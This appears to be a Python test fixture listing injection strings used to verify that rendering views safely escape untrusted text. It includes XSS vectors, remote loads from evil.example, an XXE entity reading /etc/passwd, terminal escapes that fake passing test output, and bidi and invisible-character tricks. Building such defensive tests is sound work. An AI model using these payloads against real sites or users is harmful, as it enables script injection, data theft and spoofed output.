"""Texts that try to be more than text. `TRAP` is what a payload calls; no view may ever let it run."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence

from support import FULL
from views.payloads_of_languages import CALL, MORE_PAYLOADS, TRAP

PAYLOADS: dict[str, str] = {
    # scripts and handlers
    "script": f"<script>{CALL}</script>",
    "script-case": f"<ScRiPt>{CALL}</sCrIpT>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "img-onerror": f"<img src=x onerror={CALL}>",
    "img-remote": "<img src=http://evil.example/pixel.png>",
    "svg-onload": f"<svg onload={CALL}>",
    "svg-script": f"<svg><script>{CALL}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "body-onload": f"<body onload={CALL}>",
    "details-ontoggle": f"<details open ontoggle={CALL}>",
    "input-autofocus": f"<input autofocus onfocus={CALL}>",
    "video-onerror": f"<video><source onerror={CALL}></video>",
    "marquee": f"<marquee onstart={CALL}>",
    "button": f"<button onclick={CALL}>press</button>",
    "form": f"<form action=javascript:{CALL}><input type=submit>",
    "mathml": f"<math><mtext></mtext><annotation-xml encoding=text/html><img src=x onerror={CALL}>",
    # elements that bring their own world
    "style": "<style>*{display:none}</style>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "iframe": f"<iframe src=javascript:{CALL}></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{TRAP}=1</script>'></iframe>",
    "object": f"<object data=javascript:{CALL}></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "template": f"<template><script>{CALL}</script></template>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "base": "<base href=//evil.example/>",
    "textarea-break": f"</textarea><script>{CALL}</script>",
    "title-break": f"</title><script>{CALL}</script>",
    # links
    "javascript-link": f"<a href='javascript:{CALL}'>x</a>",
    "data-link": f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    "javascript-url": f"javascript:{CALL}//",
    # comments and sections
    "comment": f"--><script>{CALL}</script><!--",
    "comment-open": "<!-- swallowed",
    "cdata": f"<![CDATA[<script>{CALL}</script>]]>",
    "cdata-end": f"]]><script>{CALL}</script>",
    "processing": "<?xml-stylesheet href='//evil.example/x.css'?>",
    "doctype": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    # out of attributes and tags
    "attribute-double": f'" onmouseover="{CALL}',
    "attribute-single": f"' onmouseover='{CALL}",
    "attribute-close": f'"><script>{CALL}</script>',
    "style-break": '";background:url(//evil.example/x);"',
    "tag-close": f"</code></td></table></div><script>{CALL}</script>",
    "details-close": f"</summary></details><img src=x onerror={CALL}>",
    "entity": f"&lt;script&gt;{CALL}&lt;/script&gt;",
    "entity-number": f"&#60;script&#62;{CALL}&#60;/script&#62;",
    "backtick-attribute": f"`onmouseover={CALL}`",
    # Markdown
    "md-link": f"[press](javascript:{CALL})",
    "md-link-remote": "[press](http://evil.example)",
    "md-image": "![x](http://evil.example/pixel.png)",
    "md-reference": "[x]: http://evil.example 'y'\n[x]",
    "md-html": f"\n\n<img src=x onerror={CALL}>\n\n",
    "md-fence": f"```\n<script>{CALL}</script>\n```",
    "md-fence-long": f"``````\n\n<script>{CALL}</script>",
    "md-code-break": f"`` ` `` <img src=x onerror={CALL}> `",
    "md-table": f"| a | b |\n|---|---|\n| <img src=x onerror={CALL}> | c |",
    "md-pipe": f"a \\| b | <img src=x onerror={CALL}> |",
    "md-heading": "\n# big\n",
    "md-autolink": "http://evil.example/auto www.evil.example mail@evil.example",
    "md-mention": "@everyone #1 GH-1",
    "md-angle": "<http://evil.example>",
    "md-setext": "title\n=====",
    "md-list": "- [ ] task",
    "md-quote": "> quoted",
    "md-footnote": "[^1]\n\n[^1]: x",
    "md-emphasis": "**bold** _under_ ~~gone~~ *star",
    "md-backslash": "\\<script\\>\\",
    "md-closing-details": "</details>\n\n# out",
    # mathematics
    "math-inline": "$x^2$ and $y$",
    "math-display": "$$\\href{javascript:window.__pwned=1}{x}$$",
    "math-paren": "\\(\\href{javascript:window.__pwned=1}{x}\\)",
    "math-bracket": "\\[ x \\]",
    "math-environment": "\\begin{equation}x\\end{equation}",
    # terminals
    "ansi": "\x1b[31mred\x1b[0m",
    "ansi-clear": "\x1b[2J\x1b[H",
    "osc-link": "\x1b]8;;http://evil.example\x1b\\press\x1b]8;;\x1b\\",
    "osc-title": "\x1b]0;owned\x07",
    "csi-c1": "\x9b31mred",
    "carriage-return": "FAIL\rok all passed",
    "backspace": "FAIL\x08\x08\x08\x08ok  ",
    "newlines": "one\n\nok 8 of 8 passed\n",
    "tab": "a\tb\vc\fd",
    "nul": "a\x00b",
    "delete": "a\x7fb",
    # directions and invisible characters
    "rtl-override": "\u202egnirts\u202c",
    "rtl-isolate": "\u2067abc\u2069",
    "rtl-mark": "a\u200fb\u200ec",
    "zero-width": "pa\u200bss\u200ced\u200d\ufeff",
    "soft-hyphen": "pass\xaded",
    "line-separator": "a\u2028b\u2029c",
    "tag-characters": "a\U000e0041\U000e007fb",
    "variation": "a\ufe0fb",
    # broken and long
    "surrogate": "a\ud800b\udfffc",
    "noncharacter": "a\ufffe\uffffb",
    "long-word": "W" * 3_000,
    "long-digits": "9" * 400,
    "emoji": "👩‍👩‍👧‍👦 ok",
    "empty": "",
    "spaces": "   ",
    "format": "%s%n{0}{__class__}",
    **MORE_PAYLOADS,
}

__all__ = ["ALONE", "CALL", "PAYLOADS", "TOGETHER", "TRAP", "batches", "documents", "faults_of"]

TOGETHER = 8
"""Texts in one document, each in its own example."""

ALONE = (
    "script", "img-onerror", "attribute-double", "tag-close", "md-table", "md-fence-long", "math-display", "ansi",
    "carriage-return", "rtl-override", "surrogate", "comment-open", "long-word", "empty",
)  # fmt: skip
"""Texts that stand in every place of a document, each in one of its own: one of each kind, and the odd ones out."""


def documents(*left_out: str) -> dict[str, tuple[str, ...]]:
    """Names of the texts of each document to look at, by a name for the test.

    In full every text is alone in every place. Otherwise those are alone of which each stands for a kind, and the
    others share documents, so that each is in one example or in what belongs to none.
    """
    names = [name for name in PAYLOADS if name not in left_out]
    alone = names if FULL else [name for name in names if name in ALONE]
    shared = [name for name in names if name not in alone]
    return {name: (name,) for name in alone} | batches(shared)


def batches(names: Iterable[str]) -> dict[str, tuple[str, ...]]:
    """Names of texts that share a document, by a name for the test."""
    listed = list(names)
    shared = [tuple(listed[at : at + TOGETHER]) for at in range(0, len(listed), TOGETHER)]
    return {f"{batch[0]} to {batch[-1]}": batch for batch in shared}


def faults_of(names: Sequence[str], look: Callable[[list[str]], list[str]]) -> list[str]:
    """What `look` finds in a document of these texts; where it finds something, in a document of each as well."""
    faults = look([PAYLOADS[name] for name in names])
    if faults and len(names) > 1:
        faults += [f"{name} alone: {fault}" for name in names for fault in look([PAYLOADS[name]])[:3]]
    return faults
